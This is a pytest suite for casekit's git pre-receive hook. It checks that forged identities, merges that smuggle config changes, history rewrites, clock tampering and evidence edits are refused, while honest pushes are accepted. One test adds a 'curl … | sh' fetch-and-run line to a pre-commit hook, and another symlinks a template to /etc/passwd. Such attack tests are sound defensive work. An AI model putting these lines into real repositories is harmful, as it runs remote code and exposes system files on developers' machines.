"""The server's pre-receive trusts only what it can check, through real authenticated git
servers on 127.0.0.1 (tests/authservers.py): who pushed (REMOTE_USER behind lighttpd, GL_USER
under gitolite), every commit a push brings (merges included) judged by the config the
server already has, each case file exactly what casekit's own code writes for its entry,
approvals on values, the rest of the tree, and entry times against the server's clock.

Each attack from the field is a real push that must be refused, next to its honest twin
that must be accepted."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from conftest import CLI, edit_file, read_case
from gitserver import AGENTS, append_entry, edit, git, hand_commit, trailers

if TYPE_CHECKING:
    from authservers import GitServer, Repository

pytest_plugins = ("authservers",)

# The server's clock in these tests: the clients work from 10:05 to about 11:00.
SERVER_NOW = "2026-11-23T11:00:00+08:00"
LATER = "2026-11-23T10:20:00+08:00"


@pytest.fixture(params=["http", "gitolite"])
def server(request: pytest.FixtureRequest) -> GitServer:
    """Each authenticated server in turn, its clock at SERVER_NOW."""
    servers: Callable[..., GitServer] = request.getfixturevalue(f"{request.param}_servers")
    return servers({"CASEKIT_NOW": SERVER_NOW})


@pytest.fixture
def http(http_servers: Callable[..., GitServer]) -> GitServer:
    return http_servers({"CASEKIT_NOW": SERVER_NOW})


def _team(server: GitServer, repo: CLI) -> Repository:
    return server.new_repository(repo)


def _refused(clone: CLI, *rules: str) -> str:
    """Push (as `casekit sync` does) and expect the server to refuse, naming each rule."""
    before = clone.git("rev-parse", "origin/main").strip()
    result = git(clone, "push", "origin", "HEAD:main")
    assert result.returncode != 0, result.stderr
    for rule in rules:
        assert f"[rule: {rule}]" in result.stderr, result.stderr
    assert "the push was refused" in result.stderr
    clone.git("fetch", "-q", "origin")
    assert clone.git("rev-parse", "origin/main").strip() == before  # nothing changed there
    return result.stderr


def _accepted(clone: CLI, repository: Repository) -> None:
    result = git(clone, "push", "origin", "HEAD:main")
    assert result.returncode == 0, result.stderr
    assert repository.head() == clone.head()


def _a_case(li: CLI, state: str = "received") -> str:
    case_id = li.new("complaint", "--set", "category=product-quality")
    if state == "assessing":
        li.ok("move", case_id, "assessing", now="2026-11-23T10:10:00+08:00")
    li.ok("sync")
    return case_id


# --- who pushed ---------------------------------------------------------------------


def test_an_agent_acting_as_the_supervisor_is_refused_and_the_supervisor_is_not(
    server: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(server, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = _a_case(li, "assessing")
    # CASEKIT_ACTOR=zhang.wei in li.na's clone: the commit and its entry claim the supervisor
    posing = CLI(li.root, {**li.environ, "CASEKIT_ACTOR": "zhang.wei"})
    posing.ok("move", case_id, "rejected", "--set", "rejection_reason=不属实", now=LATER)
    err = _refused(li, "identity")
    assert "zhang.wei's but li.na pushed it" in err
    assert "assessing -> rejected" not in repository.git("log", "--format=%s")

    zhang = repository.clone("zhang.wei", tmp_path / "zhang", environ)
    zhang.ok("move", case_id, "rejected", "--set", "rejection_reason=不属实", now=LATER)
    zhang.ok("sync")
    assert repository.head() == zhang.head()


def test_a_login_that_is_no_ones_pushes_nothing_until_a_supervisor_maps_it(
    http: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    from authservers import OUTSIDER

    repository = _team(http, repo)
    stranger = repository.clone(OUTSIDER, tmp_path / "outsider", environ, actor="li.na")
    case_id = stranger.new("complaint", "--set", "category=product-quality")
    err = _refused(stranger, "identity")
    assert f"the server login '{OUTSIDER}' that pushed is no person's" in err

    # a supervisor gives li.na that second login; then her pushes from it are hers
    zhang = repository.clone("zhang.wei", tmp_path / "zhang", environ)
    config = zhang.root / "casekit.yaml"
    edit_file(
        config,
        "li.na: {name: 李娜, email: li.na@example.com, roles: [agent]}",
        f"li.na: {{name: 李娜, email: li.na@example.com, roles: [agent], logins: [li.na, {OUTSIDER}]}}",
    )
    assert hand_commit(zhang, "li.na also signs in as outsider", login="zhang.wei").returncode == 0
    _accepted(zhang, repository)
    stranger.ok("sync")
    assert case_id in repository.git("log", "-1", "--format=%B")


def test_an_entry_by_someone_who_is_not_a_person_is_refused(
    http: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(http, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = _a_case(li)
    path = li.case_path(case_id)
    append_entry(path, f"{{at: '{LATER}', by: ghost, action: note, note: 已回访}}")
    message = f"{case_id}: note\n\n已回访\n\n{trailers(case_id, 'note')}".replace("li.na <", "ghost <")
    assert hand_commit(li, message, date=LATER).returncode == 0
    err = _refused(li, "actor")
    assert "by 'ghost', who is not a person in casekit.yaml" in err

    li.git("reset", "-q", "--hard", "origin/main")
    li.ok("note", case_id, "已回访", now=LATER)
    _accepted(li, repository)


# --- every commit, merges included ---------------------------------------------------


def test_a_merge_cannot_smuggle_a_config_change_or_a_hand_edit(
    http: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(http, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    wang = repository.clone("wang.fang", tmp_path / "wang", environ)
    case_id = _a_case(li)
    wang.ok("sync")
    wang.ok("note", case_id, "王芳：客户来电补充信息", now="2026-11-23T10:30:00+08:00")
    wang.ok("sync")
    li.ok("note", case_id, "李娜：已联系仓库", now="2026-11-23T10:31:00+08:00")
    li.git("fetch", "-q", "origin")

    # the attack: inside a merge, li.na makes herself supervisor, switches signing off,
    # renames the protected branch and sets a compensation with no history entry
    merged = git(li, "merge", "--no-commit", "--no-ff", "origin/main")
    assert merged.returncode == 0, merged.stderr
    config = li.root / "casekit.yaml"
    edit_file(config, "roles: [agent]}", "roles: [agent, supervisor]}")
    text = config.read_text(encoding="utf-8")
    config.write_text(
        re.sub(r"signed: \w+", "signed: none", text.replace("signed: none", "signed: all")), "utf-8"
    )
    edit_file(config, "branch: main", "branch: elsewhere")
    edit(
        li.case_path(case_id),
        "  category: product-quality",
        "  category: product-quality\n  compensation: 500.00",
    )
    li.git("add", "-A")
    assert hand_commit(li, "merge", paths=()).returncode == 0
    err = _refused(li, "config-change", "merge")
    assert "who is not a supervisor" in err and "fields.compensation" in err

    # the honest twin: the same merge, as git and casekit's merge driver make it
    li.git("reset", "-q", "--hard", "HEAD~1")
    author = {"GIT_AUTHOR_NAME": AGENTS["li.na"][0], "GIT_AUTHOR_EMAIL": AGENTS["li.na"][1]}
    honest = git(li, "merge", "--no-ff", "-m", "merge origin/main", "origin/main", env=author)
    assert honest.returncode == 0, honest.stderr
    _accepted(li, repository)
    notes = [e.get("note") for e in read_case(li.case_path(case_id))["history"] if e["action"] == "note"]
    assert notes == ["王芳：客户来电补充信息", "李娜：已联系仓库"]


def test_rewriting_main_stays_refused_whatever_the_pushed_config_says(
    http: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(http, repo)
    wang = repository.clone("wang.fang", tmp_path / "wang", environ)
    case_id = _a_case(wang)
    wang.ok("note", case_id, "同事的记录", now=LATER)
    wang.ok("sync")
    li = repository.clone("li.na", tmp_path / "li", environ)
    li.git("reset", "-q", "--hard", "HEAD~2")
    edit_file(li.root / "casekit.yaml", "branch: main", "branch: elsewhere")
    assert hand_commit(li, "the shared branch is elsewhere now").returncode == 0
    result = git(li, "push", "--force", "origin", "HEAD:main")
    assert result.returncode != 0
    assert "[rule: no-rewrite]" in result.stderr and "[rule: config-change]" in result.stderr
    assert "同事的记录" in repository.git("show", f"main:{wang.case_path(case_id).relative_to(wang.root)}")


# --- a commit changes exactly what its entry says -----------------------------------


def test_a_note_that_also_changes_fields_and_deadlines_is_refused(
    server: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(server, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = _a_case(li)
    path = li.case_path(case_id)
    text = path.read_text(encoding="utf-8")
    edit(path, "priority: medium", "priority: low")
    edit(path, "  category: product-quality", "  category: product-quality\n  compensation: 999")
    due_line = next(line for line in text.splitlines() if "due: " in line)
    edit(path, due_line, due_line.split("due: ")[0] + "due: '2026-12-31T18:00:00+08:00'")
    append_entry(path, f"{{at: '{LATER}', by: li.na, action: note, note: 已致电}}")
    message = f"{case_id}: note\n\n已致电\n\n{trailers(case_id, 'note')}"
    assert hand_commit(li, message, date=LATER).returncode == 0
    err = _refused(li, "replay")
    assert 'priority is "low"' in err and "fields.compensation" in err and "deadlines." in err
    audit = li.run("audit", "--since", "origin/main")
    assert audit.code == 1 and "[rule: replay]" in audit.out
    whole = li.run("audit")  # the whole history, replayed as the server does
    assert whole.code == 1 and "[rule: replay]" in whole.out and "fields.compensation" in whole.out

    li.git("reset", "-q", "--hard", "origin/main")
    li.ok("note", case_id, "已致电", now=LATER)
    _accepted(li, repository)
    li.ok("audit")


def test_a_compensation_above_the_limit_needs_a_supervisor_however_it_is_set(
    server: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(server, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = _a_case(li)
    path = li.case_path(case_id)
    edit(path, "  category: product-quality", "  category: product-quality\n  compensation: 800.00")
    append_entry(path, f"{{at: '{LATER}', by: li.na, action: set, set: {{compensation: 800.00}}}}")
    message = f"{case_id}: set compensation\n\n{trailers(case_id, 'set')}"
    assert hand_commit(li, message, date=LATER).returncode == 0
    err = _refused(li, "requires-approval")
    assert "this needs a supervisor (zhang.wei)" in err

    li.git("reset", "-q", "--hard", "origin/main")
    zhang = repository.clone("zhang.wei", tmp_path / "zhang", environ)
    zhang.ok("update", case_id, "--set", "compensation=800", now=LATER)
    zhang.ok("sync")
    assert repository.head() == zhang.head()


# --- the rest of the tree -----------------------------------------------------------


def test_hooks_and_templates_are_a_supervisors_and_symlinks_nobodys(
    http: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(http, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    hook = li.root / "hooks" / "pre-commit"
    payload = hook.read_text(encoding="utf-8") + "\ncurl -s http://127.0.0.1:9/x | sh\n"
    hook.write_text(payload, "utf-8")
    assert hand_commit(li, "faster hook").returncode == 0
    err = _refused(li, "protected-path")
    assert "hooks/pre-commit is changed by a commit that is not a supervisor's" in err

    li.git("reset", "-q", "--hard", "origin/main")
    template = li.root / "templates" / "scripts" / "zh" / "ack.j2"
    template.parent.mkdir(parents=True)
    template.symlink_to("/etc/passwd")
    li.git("add", "-A")
    assert hand_commit(li, "shared template").returncode == 0
    _refused(li, "symlink", "protected-path")

    zhang = repository.clone("zhang.wei", tmp_path / "zhang", environ)
    (zhang.root / "hooks" / "pre-commit").write_text(payload, "utf-8")
    assert hand_commit(zhang, "hook change by the supervisor", login="zhang.wei").returncode == 0
    _accepted(zhang, repository)
    shared = zhang.root / "templates" / "scripts" / "zh" / "ack.j2"
    shared.parent.mkdir(parents=True)
    shared.symlink_to("/etc/passwd")
    zhang.git("add", "-A")
    assert hand_commit(zhang, "a link, even from the supervisor", login="zhang.wei").returncode == 0
    _refused(zhang, "symlink")


def test_evidence_is_added_with_attach_and_never_replaced_or_deleted(
    http: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(http, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = li.new("complaint", "--set", "category=product-quality")
    photo = tmp_path / "photo.jpg"
    photo.write_bytes(b"\xff\xd8\xff\xe0 a photo of the broken kettle")
    li.ok("attach", case_id, str(photo), now=LATER)
    li.ok("sync")
    stored = next((li.root / "attachments" / case_id).iterdir())

    stored.write_bytes(b"\xff\xd8\xff\xe0 another photo")
    assert hand_commit(li, "better photo").returncode == 0
    assert "is changed; attachments are evidence" in _refused(li, "attachments")

    li.git("reset", "-q", "--hard", "origin/main")
    li.git("rm", "-q", str(stored.relative_to(li.root)))
    assert hand_commit(li, "not needed", paths=()).returncode == 0
    assert "is deleted; attachments are evidence" in _refused(li, "attachments")

    li.git("reset", "-q", "--hard", "origin/main")
    extra = stored.with_name("extra.jpg")
    extra.write_bytes(b"\xff\xd8\xff\xe0 unrecorded")
    li.git("add", str(extra.relative_to(li.root)))
    assert hand_commit(li, "one more", paths=()).returncode == 0
    assert "no attach entry of this commit lists it" in _refused(li, "attachments")

    li.git("reset", "-q", "--hard", "origin/main")
    li.run("validate")
    stored.write_bytes(b"tampered")
    check = li.run("validate")
    assert check.code == 1 and f"{case_id}: attachments[0]" in check.out


# --- time ---------------------------------------------------------------------------


def test_entries_are_judged_on_the_servers_clock(
    server: GitServer, repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    repository = _team(server, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = _a_case(li)

    # the clock set back two days: an overdue complaint would read as answered on time
    li.ok("note", case_id, "补记：已回复客户", now="2026-11-23T10:30:00+08:00")
    li.git("reset", "-q", "--hard", "origin/main")
    back = CLI(li.root, {**li.environ, "CASEKIT_NOW": "2026-11-21T09:00:00+08:00"})
    back.run("note", case_id, "已回复客户")
    if li.head() != li.git("rev-parse", "origin/main").strip():
        err = _refused(li, "time")
        assert "earlier than the entry before it" in err or "more than 24 hours before this push" in err
    li.git("reset", "-q", "--hard", "origin/main")

    # a clock an hour fast
    li.ok("note", case_id, "已回复客户", now="2026-11-23T12:00:00+08:00")
    err = _refused(li, "time")
    assert "later than the server's clock" in err and "sync.clock_skew" in err

    li.git("reset", "-q", "--hard", "origin/main")
    li.ok("note", case_id, "已回复客户", now="2026-11-23T10:58:00+08:00")
    _accepted(li, repository)


def test_a_change_kept_offline_too_long_is_refused_with_how_to_redo_it(
    http_servers: Callable[..., GitServer], repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    server = http_servers({"CASEKIT_NOW": "2026-11-25T11:00:00+08:00"})
    repository = _team(server, repo)
    li = repository.clone("li.na", tmp_path / "li", environ)
    case_id = li.new("complaint", "--set", "category=product-quality", now="2026-11-25T10:00:00+08:00")
    li.ok("sync")
    li.ok("note", case_id, "离线时记录", now="2026-11-25T10:30:00+08:00")
    _accepted(li, repository)
    li.ok("note", case_id, "两天前的记录", now="2026-11-25T10:40:00+08:00")
    li.git("commit", "--amend", "-q", "--no-edit", "--date=2026-11-23T10:40:00+08:00")
    path = li.case_path(case_id)
    path.write_text(
        path.read_text(encoding="utf-8").replace("2026-11-25T10:40:00+08:00", "2026-11-23T10:40:00+08:00"),
        "utf-8",
    )
    li.git("commit", "--amend", "-qa", "--no-edit", "--no-verify")
    err = _refused(li, "time")
    assert "make the change again now" in err


# --- no pusher known: signatures ----------------------------------------------------


def test_without_a_known_pusher_the_hook_says_so_and_asks_for_signatures(
    repo: CLI, tmp_path: Path, environ: dict[str, str]
) -> None:
    from gitserver import clone, make_server

    server = make_server(repo, tmp_path / "server.git")
    zhang = clone(server, tmp_path / "zhang", environ, "zhang.wei")
    case_id = zhang.new("complaint", "--set", "category=product-quality")
    zhang.ok("note", case_id, "已联系客户", now="2026-11-23T10:10:00+08:00")
    zhang.ok("sync")  # a note is nobody's privilege: no signature needed
    zhang.ok("update", case_id, "--set", "compensation=800", now=LATER)  # above the agents' limit
    result = zhang.run("sync")
    assert result.code == 1
    assert result.err.count("the server does not say who pushed") == 1
    assert "[rule: signature]" in result.err and "supervisor-only changes" in result.err

    from gitserver import set_up_signing

    zhang.git("reset", "-q", "--hard", "origin/main")
    set_up_signing(zhang, server)
    zhang.ok("update", case_id, "--set", "compensation=800", now=LATER)
    zhang.ok("sync")
    assert zhang.git("log", "-1", "--format=%G?").strip() == "G"
    assert AGENTS["zhang.wei"][1] in zhang.git("log", "-1", "--format=%ae")
